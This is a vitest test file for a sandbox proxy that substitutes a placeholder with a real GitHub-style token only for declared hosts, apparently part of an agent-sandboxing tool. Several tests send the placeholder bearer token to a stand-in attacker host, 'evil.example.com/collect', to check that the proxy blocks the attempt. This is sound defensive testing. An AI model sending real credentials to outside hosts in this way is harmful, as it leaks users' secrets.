import { mkdtempSync, writeFileSync } from 'node:fs';
import { connect as netConnect, createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compilePolicy, loadPolicy } from '../../../core/policy/index.ts';
import { addressDialer, type Dialer } from '../../../core/supervisor/dial.ts';
import { Enforcer } from '../../../core/supervisor/enforcer.ts';
import { EventSink } from '../../../core/supervisor/events.ts';
import { FlowRegistry } from '../../../core/supervisor/flows.ts';
import { PROVIDERS_FILE } from '../../../core/supervisor/l7/placeholders-file.ts';
import { sandboxStages } from '../../../core/supervisor/l7/placeholders-tunnel.ts';
import { startProxy } from '../../../core/supervisor/proxy.ts';
import { CA_CERT_FILE, CA_KEY_FILE, TlsAuthority, UPSTREAM_CA_FILE } from '../../../core/supervisor/tls/authority.ts';
import { CertificateAuthority, createCa } from '../../../core/tls/ca.ts';
import { CURL, exchange, openTunnel, responses, startHttpsUpstream, type Seen } from './l7-harness.ts';

/**
 * The real proxy with the credential interceptor, as the supervisor runs it with a `providers.json`:
 * HTTPS upstreams on loopback signed by a test CA, one declared for the provider and one not.
 */

const SECRET = 'ghp_theRealSecret_0123456789';
const PLACEHOLDER = 'OPENSHELL_PLACEHOLDER_GITHUB_TOKEN_00112233445566778899aabb';
const POLICY = `
version: 1
network_policies:
  github:
    endpoints:
      - { host: api.example.com, port: 443 }
      - { host: rest.example.com, port: 443, protocol: rest, access: read-only, enforcement: enforce }
      - { host: evil.example.com, port: 443 }
      - { host: echo.example.com, port: 7 }
      - { host: pinned.example.com, port: 443, tls: skip }
    binaries: [{ path: /usr/bin/curl }]
`;

interface Rig {
  readonly proxyPort: number;
  readonly sandboxCa: string;
  readonly lines: Record<string, unknown>[];
  readonly seen: Record<string, Seen[]>;
  close(): Promise<void>;
}

async function startRig(): Promise<Rig> {
  const dir = mkdtempSync(join(tmpdir(), 'placeholders-'));
  const sandbox = createCa('placeholders-unit');
  const testCa = createCa('test upstream CA');
  writeFileSync(join(dir, CA_KEY_FILE), sandbox.keyPem, { mode: 0o600 });
  writeFileSync(join(dir, CA_CERT_FILE), sandbox.certPem);
  writeFileSync(join(dir, UPSTREAM_CA_FILE), testCa.certPem);
  const providers = { version: 1, placeholders: [{ placeholder: PLACEHOLDER, provider: 'gh', key: 'GITHUB_TOKEN', secret: SECRET, hosts: ['api.example.com', 'rest.example.com'] }] };
  writeFileSync(join(dir, PROVIDERS_FILE), JSON.stringify(providers), { mode: 0o600 });
  const signer = new CertificateAuthority(testCa);
  const seen: Record<string, Seen[]> = {};
  const ports = new Map<string, number>();
  const servers: { close: () => Promise<void> }[] = [];
  for (const host of ['api.example.com', 'rest.example.com', 'evil.example.com', 'pinned.example.com']) {
    seen[host] = [];
    const up = await startHttpsUpstream(signer.leaf(host), seen[host]);
    ports.set(host, up.port);
    servers.push({ close: () => (up.server.closeAllConnections(), new Promise<void>((r) => up.server.close(() => r()))) });
  }
  // A raw TCP echo: a tunnel that carries neither TLS nor HTTP must pass untouched.
  const echo: TcpServer = createTcpServer((s) => s.pipe(s));
  await new Promise<void>((r) => echo.listen(0, '127.0.0.1', r));
  ports.set('echo.example.com', (echo.address() as AddressInfo).port);
  servers.push({ close: () => new Promise<void>((r) => echo.close(() => r())) });

  const lines: Record<string, unknown>[] = [];
  const events = new EventSink({ dir, sandbox: 'test', write: (l) => lines.push(JSON.parse(l) as Record<string, unknown>) });
  const flows = new FlowRegistry();
  const enforcer = new Enforcer(dir, events, flows);
  const loaded = loadPolicy(POLICY);
  if (!loaded.ok) throw new Error(JSON.stringify(loaded.problems));
  enforcer.apply({ status: 'loaded', revision: { version: 1, hash: `sha256:${'1'.padStart(64, '0')}`, compiled: compilePolicy(loaded.policy) } });
  // Each host "resolves" to a public-looking address of its own; the dialer maps it to the loopback server.
  const hosts = [...ports.keys()];
  const real = addressDialer(2_000);
  const dial: Dialer = async (addrs) => {
    const host = hosts[Number(addrs[0]!.split('.')[3])]!;
    return { socket: (await real(['127.0.0.1'], ports.get(host)!)).socket, ip: addrs[0]! };
  };
  const server = await startProxy(
    { host: '127.0.0.1', port: 0 },
    {
      enforcer,
      events,
      flows,
      identify: () => Promise.resolve(CURL),
      resolve: (host) => Promise.resolve([`93.184.216.${hosts.indexOf(host)}`]),
      dial,
      ...sandboxStages(dir, { tls: new TlsAuthority(dir), enforcer, events }),
    },
  );
  return {
    proxyPort: (server.address() as AddressInfo).port,
    sandboxCa: sandbox.certPem,
    lines,
    seen,
    close: async () => {
      await new Promise<void>((r) => server.close(() => r()));
      for (const s of servers) await s.close();
      events.close();
    },
  };
}

let rig: Rig;
beforeAll(async () => {
  rig = await startRig();
});
afterAll(async () => {
  await rig.close();
});

const get = (host: string, path: string, headers: string[] = [], method = 'GET'): string =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers.map((h) => `${h}\r\n`).join('')}Content-Length: 0\r\n\r\n`;

describe('credential placeholders through the real proxy', () => {
  it('says which providers it guards, by name only', () => {
    expect(rig.lines.find((l) => l.type === 'providers')).toMatchObject({ type: 'providers', providers: ['gh'], keys: ['gh/GITHUB_TOKEN'] });
  });

  it('sends the real secret to a declared host, though the policy only allows it at L4', async () => {
    const t = await openTunnel(rig, 'api.example.com:443', true);
    const basic = Buffer.from(`x:${PLACEHOLDER}`).toString('base64');
    const out = responses(await exchange(t, get('api.example.com', `/user?token=${PLACEHOLDER}`, [`Authorization: Bearer ${PLACEHOLDER}`, `X-Basic: Basic ${basic}`])));
    expect(out.map((r) => r.status)).toEqual([200]);
    const seen = rig.seen['api.example.com']!.at(-1)!;
    expect(seen.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(seen.headers['x-basic']).toBe(`Basic ${Buffer.from(`x:${SECRET}`).toString('base64')}`);
    expect(seen.url).toBe(`/user?token=${SECRET}`);
    t.destroy();
  });

  it('refuses the placeholder on an undeclared host; that host never sees a byte of the request', async () => {
    const t = await openTunnel(rig, 'evil.example.com:443', true);
    const out = responses(await exchange(t, get('evil.example.com', '/collect', [`Authorization: Bearer ${PLACEHOLDER}`])));
    expect(out).toHaveLength(1);
    expect(out[0]!.status).toBe(403);
    expect(JSON.parse(out[0]!.body)).toMatchObject({ error: 'credential_endpoint_mismatch', provider: 'gh', key: 'GITHUB_TOKEN', host: 'evil.example.com' });
    expect(rig.seen['evil.example.com']).toEqual([]);
    t.destroy();
  });

  it('still serves ordinary requests to an undeclared host', async () => {
    const t = await openTunnel(rig, 'evil.example.com:443', true);
    expect(responses(await exchange(t, get('evil.example.com', '/ok'))).map((r) => r.status)).toEqual([200]);
    t.destroy();
  });

  it('decides the policy first: a denied request never gets the secret', async () => {
    const t = await openTunnel(rig, 'rest.example.com:443', true);
    const raw = await exchange(t, get('rest.example.com', '/a', [`Authorization: Bearer ${PLACEHOLDER}`]) + get('rest.example.com', '/b', [`Authorization: Bearer ${PLACEHOLDER}`], 'POST'));
    expect(responses(raw).map((r) => r.status)).toEqual([200, 403]);
    expect(JSON.parse(responses(raw)[1]!.body)).toMatchObject({ error: 'policy_denied' });
    expect(rig.seen['rest.example.com']!.map((s) => [s.method, s.headers.authorization])).toEqual([['GET', `Bearer ${SECRET}`]]);
    t.destroy();
  });

  it('refuses a placeholder in absolute-form plain HTTP before dialing, to any host', async () => {
    const before = rig.lines.length;
    const raw = await new Promise<string>((resolve) => {
      const s = netConnect(rig.proxyPort, '127.0.0.1');
      let out = '';
      s.on('data', (c: Buffer) => (out += c.toString('latin1')));
      s.on('close', () => resolve(out));
      s.write(`GET http://evil.example.com:443/x HTTP/1.1\r\nHost: evil.example.com:443\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
    });
    expect(raw).toMatch(/^HTTP\/1\.1 403/);
    expect(raw).toContain('credential_endpoint_mismatch');
    // One event, the refusal: no L4 admission, so nothing was dialed.
    expect(rig.lines.slice(before).filter((l) => l.type === 'decision')).toEqual([
      expect.objectContaining({ type: 'decision', layer: 'l7', action: 'deny', method: 'GET', path: '/x', error: 'credential_endpoint_mismatch', status: 403 }),
    ]);
  });

  it('relays a tunnel that is neither TLS nor HTTP untouched', async () => {
    const t = await openTunnel(rig, 'echo.example.com:7', false);
    expect(await exchange(t, '\x00\x01binary protocol', 600)).toBe('\x00\x01binary protocol');
    t.destroy();
  });

  it('leaves a `tls: skip` endpoint alone (no interception: the agent sees the upstream’s own certificate)', async () => {
    await expect(openTunnel(rig, 'pinned.example.com:443', true)).rejects.toThrow(/certificate/i);
  });

  it('puts no secret in any event line', () => {
    expect(rig.lines.length).toBeGreaterThan(5);
    expect(JSON.stringify(rig.lines)).not.toContain(SECRET);
    const denied = rig.lines.find((l) => l.error === 'credential_endpoint_mismatch');
    expect(denied).toMatchObject({ type: 'decision', layer: 'l7', action: 'deny', host: 'evil.example.com', status: 403 });
  });
});
